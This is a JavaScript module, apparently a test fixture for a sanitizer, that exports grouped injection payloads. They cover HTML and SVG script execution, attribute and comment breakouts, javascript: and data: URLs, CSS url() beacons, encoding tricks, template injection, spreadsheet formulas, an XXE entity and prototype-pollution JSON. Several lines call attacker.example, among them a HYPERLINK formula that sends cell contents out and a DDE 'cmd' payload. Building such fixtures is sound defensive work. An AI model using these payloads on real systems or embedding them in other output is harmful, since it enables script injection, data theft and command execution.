// Texts that try to run a script, to make an element, or to call another site, each by a way that has worked somewhere. Where one
// works, `alert` is called or https://attacker.example is asked for something. By kind; `\u0000` and the like are meant.

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<script/x>alert(1)</script/x>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="https://attacker.example/pixel.gif">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="https://attacker.example/x.html"></object>',
  '<embed src="https://attacker.example/x.svg">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button autofocus onfocus=alert(1)>x</button></form>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  '<onrecord-quote-card src="https://attacker.example/x.json"></onrecord-quote-card>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<marquee onstart=alert(1)>x</marquee>',
];

const breakouts = [
  '</blockquote></figure><img src=x onerror=alert(1)>',
  '</title></textarea></style><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)><!--',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  ']]><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "https://attacker.example/y">]>&y;',
];

const attributes = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
  '` onmouseover=alert(1) x=`',
  '" style="background:url(https://attacker.example/x)" x="',
  '" srcdoc="<script>parent.alert(1)</script>" x="',
  '" src="https://attacker.example/x.json" x="',
  'x onerror=alert(1)',
  '/><img src=x onerror=alert(1)>',
  '"\n\tonfocus=\n"alert(1)" autofocus="',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript://attacker.example/%0Aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'blob:https://attacker.example/1',
  'file:///etc/passwd',
  '//attacker.example/x',
  '\\\\attacker.example\\x',
  'https://user:password@attacker.example/',
  'https://attacker.example/"onload="alert(1)',
  'https:alert(1)',
  'view-source:https://attacker.example/',
];

const svg = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="https://attacker.example/x.js"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>',
  '<svg><use href="https://attacker.example/x.svg#x"/></svg>',
  '<svg><image href="https://attacker.example/x.png"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '</text></svg><img src=x onerror=alert(1)>',
  '</desc><script>alert(1)</script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
];

const css = [
  '<style>@import "https://attacker.example/x.css";</style>',
  '</style><img src=x onerror=alert(1)>',
  '<p style="background:url(https://attacker.example/x)">x</p>',
  'url(https://attacker.example/x)',
  ';background:url("https://attacker.example/x")',
  '}*{background:url(https://attacker.example/x)}',
  'expression(alert(1))',
  'red;}</style><script>alert(1)</script>',
  '\\3c img src=x onerror=alert(1)\\3e',
];

const unicode = [
  '\u0000<img src=x onerror=alert(1)>',
  '<\u0000img src=x onerror=alert(1)>',
  '<img\u000Bsrc=x onerror=alert(1)>',
  '<img\u000Csrc=x\u000Conerror=alert(1)>',
  '\uFF1Cimg src=x onerror=alert(1)\uFF1E',
  '\u2039img src=x onerror=alert(1)\u203A',
  '\u02BA\u02BConfocus=alert(1) autofocus\u02BA',
  '\u202E>)1(trela=rorreno x=crs gmi<',
  '\u2066<img src=x onerror=alert(1)>\u2069',
  '\uD800<img src=x onerror=alert(1)>\uDFFF',
  '\uFEFF<script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\u2029',
  '\u00BCscript\u00BEalert(1)\u00BC/script\u00BE',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
];

const templates = [
  '${alert(1)}',
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '{{{<img src=x onerror=alert(1)>}}}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '{name}{words}{0}',
  "$&$1$`$'$$",
  '<!--?lit$123456789$--><img src=x onerror=alert(1)>',
  '?lit$123456789$',
  '%s%n%d',
];

const scripts = [
  '</script><img src=x onerror=alert(1)>',
  '<!--<script>',
  '";alert(1);"',
  "';alert(1);'",
  '"}],"@type":"ClaimReview","x":[{"y":"',
  '\\";alert(1);//',
  '\u2028alert(1)\u2029',
  ']]>*/alert(1)/*',
];

const formulas = [
  '=HYPERLINK("https://attacker.example/?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '"=1+1',
  '\uFF1D1+1',
  ' =1+1',
  'x\n=1+1',
  'x","=1+1',
];

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__[polluted]',
  'then',
];

/** @type {readonly { readonly kind: string, readonly text: string }[]} */
export const payloads = Object.entries({
  html,
  breakouts,
  attributes,
  addresses,
  svg,
  css,
  unicode,
  templates,
  scripts,
  formulas,
  keys,
}).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

/** JSON that sets `polluted` on every object where it is merged without care. */
export const pollutions = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"id":"__proto__","__proto__":{"__proto__":{"polluted":true}}}',
];
